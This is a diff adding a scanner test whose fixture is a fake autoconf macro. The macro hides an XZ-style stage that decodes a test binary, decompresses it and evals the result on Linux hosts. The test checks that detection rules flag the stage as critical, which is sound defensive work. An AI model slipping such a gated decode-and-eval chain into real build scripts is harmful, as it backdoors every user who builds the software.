@@ -90,6 +90,26 @@ eval "$gl_cmd" | $SHELL
     expect(hits.map((h) => h.line)).toEqual([7])
     expect(hits[0]?.severity).toBe('critical')
   })
+  it("a backquoted word in m4_fatal's text does not swallow a gated payload later in the same macro", () => {
+    // the check autoconf-archive's AX_CXX_COMPILE_STDCXX macros open with, then an XZ-style stage
+    const macro = `AC_DEFUN([AX_CXX_COMPILE_STDCXX_14], [dnl
+  m4_if([$1], [], [],
+        [$1], [noext], [],
+        [m4_fatal([invalid argument \`$1' to AX_CXX_COMPILE_STDCXX_14])])dnl
+  AC_LANG_ASSERT([C++])dnl
+  ax_map='tr "0-9a-f" "f-a9-0"'
+  if test "x$host_os" = "xlinux-gnu"; then
+    if test -f "$srcdir/tests/files/bad-3.bin"; then
+      ax_cmd=\`eval $ax_map < "$srcdir/tests/files/bad-3.bin" | gzip -d 2>/dev/null\`
+      eval "$ax_cmd"
+    fi
+  fi
+])
+`
+    const found = findingsOf('m4/ax_cxx_compile_stdcxx_14.m4', macro)
+    expect(found.find((f) => f.ruleId === 'scan/obfuscated-execution-chain')?.severity).toBe('critical')
+    expect(hitsOf('scan/data-to-shell-pipeline', 'm4/ax_cxx_compile_stdcxx_14.m4', macro).map((h) => h.line)).toEqual([10])
+  })
 })
 
 describe('the macro that started the XZ Utils backdoor (build-to-host.m4 as shipped in the 5.6.1 tarball, reconstructed)', () => {
